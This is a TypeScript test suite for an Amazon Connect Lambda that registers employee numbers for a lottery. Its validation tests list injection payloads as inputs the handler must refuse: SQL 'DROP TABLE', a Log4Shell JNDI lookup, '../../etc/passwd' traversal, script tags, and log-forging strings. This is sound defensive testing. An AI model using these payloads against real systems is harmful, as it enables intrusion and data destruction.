import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createHandler } from './create-handler.js'
import type { HandlerOptions, RegistrationHandler } from './create-handler.js'
import { registrationOutput } from './contract/index.js'
import type { RegistrationAnswer } from './contract/index.js'
import { messages } from './messages.js'
import type { RegistrationStore } from './stores/registration-store.js'
import { createSqliteStore } from './stores/sqlite-store.js'
import type { AnswerFacts } from './telemetry.js'

const contactId = '5f2a6b1c-0000-4000-8000-000000000001'
const phone = '+821012345678'

/** An event as Connect sends it. */
function eventWith(
  parameters: unknown,
  contactData: Readonly<Record<string, unknown>> = {},
): Readonly<Record<string, unknown>> {
  return {
    Name: 'ContactFlowEvent',
    Details: {
      ContactData: {
        Attributes: {},
        Channel: 'VOICE',
        ContactId: contactId,
        CustomerEndpoint: { Address: phone, Type: 'TELEPHONE_NUMBER' },
        LanguageCode: 'en-US',
        Queue: null,
        ...contactData,
      },
      Parameters: parameters,
    },
  }
}

interface Line {
  readonly handler: RegistrationHandler
  readonly store: RegistrationStore
  readonly facts: AnswerFacts[]
}

function openLine(options: Partial<HandlerOptions> = {}): Line {
  const store = createSqliteStore(':memory:')
  const facts: AnswerFacts[] = []
  const telemetry = {
    answered: (answer: AnswerFacts) => void facts.push(answer),
    trace: async <Result>(_: string, work: () => Promise<Result>) => await work(),
  }
  return { store, facts, handler: createHandler({ store: () => store, telemetry, ...options }) }
}

const statusOf = ({ registrationStatus }: RegistrationAnswer): string => registrationStatus

describe('the answer', () => {
  it('is the registration', async () => {
    const { handler, store } = openLine({ clock: () => 1_704_067_200_000_001 })
    expect(await handler(eventWith({ customerInput: '12345' }))).toEqual({
      registrationStatus: 'SUCCESS',
      success: 'true',
      contactId,
      customerPhone: phone,
      customerInput: '12345',
      lotteryNumber: 'L3404',
      successMessage: '등록이 완료되었습니다.',
    })
    expect(await store.list()).toEqual([
      {
        contactId,
        timestamp: '2024-01-01T00:00:00.000001',
        customerPhone: phone,
        customerInput: '12345',
        eventType: 'lottery_registration',
        lotteryNumber: 'L3404',
      },
    ])
  })

  it('is identical when the same contact asks again', async () => {
    const { handler, facts } = openLine()
    const event = eventWith({ customerInput: '12345' })
    expect(await handler(event)).toEqual(await handler(event))
    expect(facts.map(({ repeated }) => repeated)).toEqual([undefined, true])
  })

  it('is DUPLICATE for another contact, without the number that somebody else has', async () => {
    const { handler } = openLine()
    await handler(eventWith({ customerInput: '12345' }))
    expect(await handler(eventWith({ customerInput: '12345' }, { ContactId: 'another' }))).toEqual({
      registrationStatus: 'DUPLICATE',
      success: 'false',
      errorMessage: '이미 등록된 사번입니다.',
    })
  })

  it.each([
    ['en', messages.en.SUCCESS],
    ['en-US', messages.en.SUCCESS],
    ['EN', messages.en.SUCCESS],
    ['ko-KR', messages.ko.SUCCESS],
    ['enx', messages.ko.SUCCESS],
    ['', messages.ko.SUCCESS],
    [null, messages.ko.SUCCESS],
  ])('speaks the language of the attribute %s', async (language, message) => {
    const { handler } = openLine()
    const answer = await handler(eventWith({ customerInput: '12345' }, { Attributes: { language } }))
    expect(answer).toMatchObject({ successMessage: message })
  })

  it('says that registration is closed when no number is left', async () => {
    const closed = { ...openLine().store, register: async () => ({ status: 'closed' }) as const }
    const { handler } = openLine({ store: () => closed })
    expect(await handler(eventWith({ customerInput: '12345' }))).toEqual({
      registrationStatus: 'ERROR',
      success: 'false',
      errorMessage: messages.ko.CLOSED,
    })
  })
})

describe('the employee number', () => {
  it.each([
    ['customerInput', { customerInput: '1111', StoredInput: '2222', userInput: '3333' }, '1111'],
    ['StoredInput', { customerInput: '', StoredInput: '2222', userInput: '3333' }, '2222'],
    ['userInput', { customerInput: null, userInput: '3333' }, '3333'],
    ['the contact attribute', {}, '4444'],
    ['the contact attribute without parameters', null, '4444'],
  ])('comes from %s', async (_, parameters, expected) => {
    const { handler } = openLine()
    const answer = await handler(eventWith(parameters, { Attributes: { customerInput: '4444' } }))
    expect(answer).toMatchObject({ registrationStatus: 'SUCCESS', customerInput: expected })
  })

  it.each(['1234', '12345678', '0000', '00001234'])('may be %s', async (customerInput) => {
    expect(await openLine().handler(eventWith({ customerInput }))).toMatchObject({ customerInput, success: 'true' })
  })

  it.each([
    '123',
    '123456789',
    ' 1234',
    '1234\n',
    '12 34',
    '+12345',
    '-1234',
    '1e10',
    '0x1234',
    '12.34',
    '*1234',
    '１２３４５',
    '١٢٣٤٥',
    '1234\u0000',
    '1234\u202e',
    '가나다라',
    "1234'; DROP TABLE registrations; --",
    '{"$ne": 1}',
    '12345\r\n{"level":"INFO"}',
    '${jndi:ldap://example.com/a}',
    '__proto__',
    '9'.repeat(1_000_000),
  ])('is not %j', async (customerInput) => {
    const { handler, store, facts } = openLine()
    expect(statusOf(await handler(eventWith({ customerInput })))).toBe('INVALID_FORMAT')
    expect(await store.list()).toEqual([])
    expect(JSON.stringify(facts)).not.toContain(JSON.stringify(customerInput).slice(1, 9))
  })

  it.each(['', 'Timeout', null, undefined])('is missing when the input is %j', async (customerInput) => {
    expect(statusOf(await openLine().handler(eventWith({ customerInput })))).toBe('INPUT_ERROR')
  })
})

describe('phone and contact', () => {
  it('come from the parameters first', async () => {
    const { handler } = openLine()
    const parameters = { customerInput: '12345', customerPhone: '+82212345678', contactId: 'from-parameters' }
    expect(await handler(eventWith(parameters))).toMatchObject({
      contactId: 'from-parameters',
      customerPhone: '+82212345678',
    })
  })

  it.each([{ CustomerEndpoint: null }, { CustomerEndpoint: { Address: null } }, { CustomerEndpoint: undefined }])(
    'may be without a phone: %j',
    async (contactData) => {
      const answer = await openLine().handler(eventWith({ customerInput: '12345' }, contactData))
      expect(answer).toMatchObject({ registrationStatus: 'SUCCESS', customerPhone: '' })
    },
  )

  it.each([
    { contactId: 'x'.repeat(257) },
    { contactId: '../../etc/passwd' },
    { contactId: "' OR 1=1 --" },
    { contactId: 'a\nb' },
    { contactId: 5 },
    { customerPhone: '"}\n{"contactId":"forged"' },
    { customerPhone: '<script>' },
    { customerPhone: '1'.repeat(1_000_000) },
    { customerPhone: ['+82'] },
  ])('are refused when they cannot be any: %#', async (parameters) => {
    const { handler, store } = openLine()
    expect(statusOf(await handler(eventWith({ customerInput: '12345', ...parameters })))).toBe('INPUT_ERROR')
    expect(await store.list()).toEqual([])
  })

  it('are refused when there is no contact id', async () => {
    const answer = await openLine().handler(eventWith({ customerInput: '12345' }, { ContactId: null }))
    expect(statusOf(answer)).toBe('INPUT_ERROR')
  })
})

describe('an event that Connect never sends', () => {
  it.each([
    undefined,
    null,
    5,
    'text',
    [],
    {},
    { Details: null },
    { Details: [] },
    { Details: {} },
    { Details: { Parameters: 'text' } },
    { Details: { Parameters: { customerInput: 12345 }, ContactData: { ContactId: 'a' } } },
    { Details: { Parameters: { customerInput: ['12345'] }, ContactData: { ContactId: 'a' } } },
    { Details: { Parameters: { customerInput: { length: 5 } }, ContactData: { ContactId: 'a' } } },
    { Details: { Parameters: { customerInput: '12345' }, ContactData: { ContactId: 'a', Attributes: 'text' } } },
  ])('is an input error: %j', async (event) => {
    const { handler, store } = openLine()
    expect(statusOf(await handler(event))).toBe('INPUT_ERROR')
    expect(await store.list()).toEqual([])
  })

  it('always gets an answer of the contract, whatever it is', async () => {
    const anything = fc.anything({ withNullPrototype: true, withBigInt: true, withDate: true, maxDepth: 4 })
    const nearly = fc
      .record({ customerInput: anything, StoredInput: anything, contactId: anything, customerPhone: anything })
      .map((parameters) => eventWith(parameters))
    await fc.assert(
      fc.asyncProperty(fc.oneof(anything, nearly), async (event) => {
        const { handler, store } = openLine()
        const answer = await handler(event)
        expect(registrationOutput.safeParse(answer).success).toBe(true)
        expect(await store.list()).toHaveLength(answer.success === 'true' ? 1 : 0)
        store.close()
      }),
      { numRuns: 150, seed: 1 },
    )
  })
})

describe('when the store fails', () => {
  const failing = (register: RegistrationStore['register']): Partial<HandlerOptions> => ({
    store: () => ({ register, list: async () => [], close: () => undefined }),
    timeBudgetMilliseconds: 100,
  })

  it('is ERROR, and nothing of the caller is logged', async () => {
    const { handler, facts } = openLine(
      failing(async () => {
        throw Object.assign(new Error(`Item 12345 of ${phone} was refused.`), { $metadata: { httpStatusCode: 400 } })
      }),
    )
    expect(await handler(eventWith({ customerInput: '12345' }))).toEqual({
      registrationStatus: 'ERROR',
      success: 'false',
      errorMessage: messages.ko.ERROR,
    })
    expect(facts).toMatchObject([
      {
        registrationStatus: 'ERROR',
        contactId,
        employeeNumber: '***45',
        customerPhone: '***********78',
        error: { name: 'Error', message: 'Item ***45 of +**********78 was refused.', httpStatus: 400 },
      },
    ])
    expect(JSON.stringify(facts)).not.toMatch(/12345|821012345678/)
  })

  it.each([
    ['never answers', async () => await new Promise<never>(() => undefined)],
    [
      'throws at once',
      () => {
        throw new TypeError('no')
      },
    ],
    ['rejects with nothing', async () => await Promise.reject(undefined)],
  ])('is ERROR in time when it %s', async (_, register) => {
    const { handler } = openLine(failing(register))
    expect(statusOf(await handler(eventWith({ customerInput: '12345' })))).toBe('ERROR')
  })

  it('is ERROR when there is no store', async () => {
    const { handler, facts } = openLine({
      store: () => {
        throw new Error('TIME_BUDGET_MILLISECONDS: too long')
      },
    })
    expect(statusOf(await handler(eventWith({ customerInput: '12345' })))).toBe('ERROR')
    expect(facts[0]?.error?.message).toBe('TIME_BUDGET_MILLISECONDS: too long')
  })

  it('keeps back time to answer of what Lambda has left', async () => {
    const { handler } = openLine({ ...failing(async () => await new Promise<never>(() => undefined)) })
    const left = handler(eventWith({ customerInput: '12345' }), { getRemainingTimeInMillis: () => 310 })
    expect(statusOf(await left)).toBe('ERROR')
    const none = handler(eventWith({ customerInput: '12345' }), { getRemainingTimeInMillis: () => 0 })
    expect(statusOf(await none)).toBe('ERROR')
  })

  it('answers also when telling about it fails', async () => {
    const { handler } = openLine({
      telemetry: {
        answered: () => {
          throw new Error('no disk')
        },
        trace: async (_, work) => await work(),
      },
    })
    expect(statusOf(await handler(eventWith({ customerInput: '12345' })))).toBe('SUCCESS')
  })
})
